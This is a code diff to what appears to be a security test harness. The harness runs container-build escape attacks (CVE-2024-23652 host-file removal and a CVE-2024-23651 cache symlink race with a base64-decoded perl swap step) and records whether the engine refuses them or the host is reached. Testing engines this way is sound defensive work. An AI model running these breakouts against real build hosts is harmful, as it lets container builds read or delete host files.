@@ -17,7 +17,17 @@ export type Outcome = "refused" | "harmless" | "the host was reached";
 
 export type Attack = {
   name: string;
-  run(target: { engine: Engine; baseImage: string; rewrite?: Rewrite; mark: string }): Promise<Outcome>;
+  run(target: Target): Promise<Outcome>;
+};
+
+export type Target = {
+  engine: Engine;
+  baseImage: string;
+  rewrite?: Rewrite;
+  /** Makes names that nobody else has. */
+  mark: string;
+  /** What the engine has as its root, where it is not that of this machine. */
+  root?: string;
 };
 
 /** An empty file of the host, which the engine is to remove (CVE-2024-23652). */
@@ -28,12 +38,12 @@ const removal = (
   lines: (hostDir: string) => readonly string[],
 ): Attack => ({
   name,
-  async run({ engine, baseImage, rewrite, mark }) {
-    await using host = await openHostDir();
+  async run({ engine, baseImage, rewrite, mark, root }) {
+    await using host = await openHostDir(root);
     const file = join(host.dir, victim);
     await mkdir(dirname(file), { recursive: true });
     await writeFile(file, "");
-    const text = [`FROM ${baseImage}`, `ENV MARK=${mark}`, ...lines(host.dir)].join("\n");
+    const text = [`FROM ${baseImage}`, `ENV MARK=${mark}`, ...lines(host.known)].join("\n");
     const built = await build(engine, text, mark, rewrite);
     if (built.refused) return "refused";
     // What the platform does about it may keep the step from getting there.
@@ -85,13 +95,13 @@ const STAGES = 2;
 /** A file of the host that a build reads through a part of a cache (CVE-2024-23651). Takes a while where it works, too. */
 export const cacheRace: Attack = {
   name: "a part of a cache is exchanged for a link",
-  async run({ engine, baseImage, rewrite, mark }) {
-    await using host = await openHostDir();
+  async run({ engine, baseImage, rewrite, mark, root }) {
+    await using host = await openHostDir(root);
     const secret = `secret-${mark}`;
     await writeFile(join(host.dir, "file"), secret);
     const cache = `--mount=type=cache,id=race-${mark}`;
     const program = Buffer.from(EXCHANGE).toString("base64");
-    const prepare = `mkdir -p /c/a && ln -sfn ${host.dir} /c/b && echo ${program} | base64 -d > /exchange.pl`;
+    const prepare = `mkdir -p /c/a && ln -sfn ${host.known} /c/b && echo ${program} | base64 -d > /exchange.pl`;
     const exchange = [
       `FROM ${baseImage}`,
       `RUN ${cache},target=/c ${prepare} && echo exchanging && perl /exchange.pl ${ATTEMPTS_MS / 1000}`,
@@ -168,11 +178,15 @@ async function* entriesOf(files: Record<string, string>): AsyncGenerator<TarEntr
   }
 }
 
-/** A directory that everybody may look into. */
-async function openHostDir(): Promise<AsyncDisposable & { dir: string }> {
-  const dir = await mkdtemp(join(tmpdir(), "svc-attack-"));
+/** A directory that everybody may look into, and the path by which the engine knows it. */
+async function openHostDir(root = ""): Promise<AsyncDisposable & { dir: string; known: string }> {
+  const dir = await mkdtemp(join(root, tmpdir(), "svc-attack-"));
   await chmod(dir, 0o755);
-  return { dir, [Symbol.asyncDispose]: () => rm(dir, { recursive: true, force: true }) };
+  return {
+    dir,
+    known: dir.slice(root.length),
+    [Symbol.asyncDispose]: () => rm(dir, { recursive: true, force: true }),
+  };
 }
 
 const exists = (path: string): Promise<boolean> =>
